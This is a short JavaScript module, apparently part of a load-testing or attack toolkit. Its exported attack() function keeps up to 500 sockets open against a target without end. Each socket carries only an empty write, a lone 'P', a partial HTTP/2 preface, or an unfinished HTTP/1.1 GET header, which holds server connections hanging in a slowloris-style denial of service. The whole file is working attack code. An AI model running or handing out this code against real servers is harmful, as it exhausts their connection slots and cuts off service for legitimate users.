// Connections that say nothing, or the beginning of something.

import { connect } from './connection.mjs';

export const title = 'silent connections';
const BEGUN = ['', 'P', 'PRI * HT', 'GET / HTTP/1.1\r\nHost:'];
const AT_ONCE = 500;

export async function attack(where, atOnce = AT_ONCE) {
  const open = new Set();
  for (let each = 0; ; each++) {
    const socket = open.size < atOnce ? await connect(where) : null;
    if (!socket) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      continue;
    }
    open.add(socket);
    socket.on('close', () => open.delete(socket)).resume();
    socket.write(BEGUN[each % BEGUN.length]);
  }
}
